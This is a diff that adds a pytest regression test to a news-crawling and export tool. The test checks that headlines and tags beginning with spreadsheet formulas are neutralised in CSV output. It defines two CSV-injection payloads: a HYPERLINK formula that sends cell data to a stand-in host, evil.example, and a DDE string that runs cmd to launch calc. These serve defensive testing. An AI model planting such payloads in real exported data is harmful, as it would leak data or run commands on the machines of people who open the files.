@@ -84,3 +84,47 @@ def test_a_record_already_holding_such_a_date_is_one_bad_row(tmp_path: Path, cap
     assert "outside the years a UTC timestamp holds" in error and "Traceback" not in error
     assert main(["export", str(source), "--out", str(out), "--keep-going"]) == 1
     assert pq.read_table(out).num_rows == 2
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+TAG_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.slow
+def test_a_headline_a_spreadsheet_would_run_stays_text_in_the_csv(tmp_path: Path) -> None:
+    """CSV is for spreadsheets: a cell starting with ``=`` (or ``+ - @``) is a formula
+    there, so a page's headline ``=HYPERLINK(...)`` ran in the researcher's spreadsheet
+    (CSV injection). The cell gets a ``'`` in front; ``load`` gives the headline back."""
+    import csv
+
+    import newsarchive
+
+    article = generated_article(3)
+    with RawSite() as site:
+        base = site.base_url
+        page = (
+            article.render(base)
+            .replace(article.headline, FORMULA.replace('"', "&quot;"))
+            .replace('rel="tag">Harbourside<', f'rel="tag">{TAG_FORMULA}<')
+        )
+        site.routes["/"] = Route(
+            http_response("200 OK", HTML, html_page("Home", [article.path], 20))
+        )
+        site.routes[article.path] = Route(http_response("200 OK", HTML, page.encode()))
+        done = run_command(crawl_command(base + "/", tmp_path / "crawl", settings=QUIET))
+        assert done.returncode == 0, done.stderr[-3000:]
+    [record] = exported_articles(tmp_path / "crawl")
+    assert record["headline"] == FORMULA and record["topics"][0] == TAG_FORMULA
+    out = tmp_path / "articles.csv"
+    exported = run_newsarchive("export", tmp_path / "crawl", "--format", "csv", "--out", out)
+    assert exported.returncode == 0, exported.stderr[-3000:]
+    with out.open(newline="", encoding="utf-8") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["headline"] == "'" + FORMULA
+    assert row["topics"].startswith("'" + TAG_FORMULA)
+    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row.values())
+    [again] = newsarchive.load(out)
+    assert again["headline"] == FORMULA and again["topics"] == record["topics"]
+    back = tmp_path / "back.jsonl"
+    assert run_newsarchive("export", out, "--format", "jsonl", "--out", back).returncode == 0
+    assert [r["headline"] for r in newsarchive.load(back)] == [FORMULA]
